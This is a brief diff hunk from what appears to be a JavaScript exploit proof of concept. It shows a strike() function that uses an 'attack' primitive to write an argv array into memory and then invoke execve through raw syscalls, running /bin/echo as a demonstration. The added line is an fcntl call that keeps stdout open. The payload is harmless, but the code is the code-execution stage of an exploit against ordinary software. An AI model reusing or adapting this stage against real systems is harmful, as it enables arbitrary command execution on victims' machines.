@@ -166,6 +166,7 @@ function strike() {
   const words = [text('/bin/echo'), text('executed')];
   const argv = Buffer.alloc(24);
   words.forEach((each, i) => argv.writeBigUInt64LE(BigInt(attack.address(each)), i * 8));
+  attack.call(nr.fcntl, 1, 2, 0); // F_SETFD: stdout is not closed by it
   attack.call(nr.execve, words[0], argv, Buffer.alloc(8));
 }
 
